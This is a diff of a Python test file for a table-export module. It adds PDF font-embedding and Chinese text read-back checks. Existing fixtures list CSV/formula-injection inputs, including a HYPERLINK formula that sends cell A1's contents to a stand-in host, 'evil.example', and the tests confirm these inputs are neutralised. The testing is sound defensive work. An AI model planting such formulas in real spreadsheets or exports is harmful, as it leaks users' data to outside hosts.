@@ -6,7 +6,7 @@ import io
 
 from openpyxl import load_workbook
 
-from engine.read.exports.formats import Column, Table, to_csv, to_xlsx
+from engine.read.exports.formats import Column, Table, render, to_csv, to_xlsx
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+2", "-3", "@SUM(A1)", "plain 文本"]
 TABLE = Table(title="Nonconformities", columns=[Column("title", "Title")], rows=[{"title": t} for t in HOSTILE])
@@ -22,3 +22,46 @@ def test_an_xlsx_cell_that_starts_like_a_formula_is_text_holding_exactly_what_wa
 def test_a_csv_cell_that_starts_like_a_formula_is_quoted_with_an_apostrophe():
     rows = list(csv.reader(io.StringIO(to_csv(TABLE).decode("utf-8-sig"))))
     assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE[:4]] + ["plain 文本"]
+
+
+def pdf_fonts(pdf: bytes) -> list:
+    """Every font the PDF's pages (and the forms they draw) select, the descendants of composite fonts included."""
+    from pypdf import PdfReader
+
+    fonts, seen = [], set()
+
+    def walk(resources) -> None:
+        resources = resources.get_object() if resources is not None else {}
+        for font in resources.get("/Font", {}).values():
+            if font.idnum not in seen:  # reportlab writes fonts as indirect objects
+                seen.add(font.idnum)
+                font = font.get_object()
+                fonts.extend([font, *(d.get_object() for d in font.get("/DescendantFonts", []))])
+        for xobject in resources.get("/XObject", {}).values():
+            if xobject.get_object().get("/Subtype") == "/Form":
+                walk(xobject.get_object().get("/Resources"))
+
+    for page in PdfReader(io.BytesIO(pdf)).pages:
+        walk(page.get("/Resources"))
+    return fonts
+
+
+def not_embedded(pdf: bytes) -> list[str]:
+    """The fonts of the PDF whose glyphs it does not carry (a standard font such as Helvetica has no descriptor)."""
+    return [str(font.get("/BaseFont")) for font in pdf_fonts(pdf)
+            if font.get("/Subtype") not in ("/Type0", "/Type3")  # their descendant, their own glyph procedures
+            and not {"/FontFile", "/FontFile2", "/FontFile3"} & set(font.get("/FontDescriptor") or {})]
+
+
+def test_a_pdf_embeds_every_font_it_uses_and_its_chinese_reads_back():
+    from pypdf import PdfReader
+
+    many = "".join(chr(0x4E00 + i) for i in range(600))  # more characters than one 256-glyph font subset holds
+    pdf = render(Table(title="导出 Export", columns=[Column("title", "标题 Title")],
+                       rows=[*TABLE.rows, {"title": many}]), "pdf")
+    fonts = pdf_fonts(pdf)
+    assert len(fonts) >= 3 and not_embedded(pdf) == []
+    assert {str(f["/FontDescriptor"]["/FontName"]).split("+")[1] for f in fonts} == {"WenQuanYiMicroHei-0"}
+    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
+    assert "导出 Export" in text and "plain 文本" in text and "详情" in text
+    assert set(many) <= set(text)
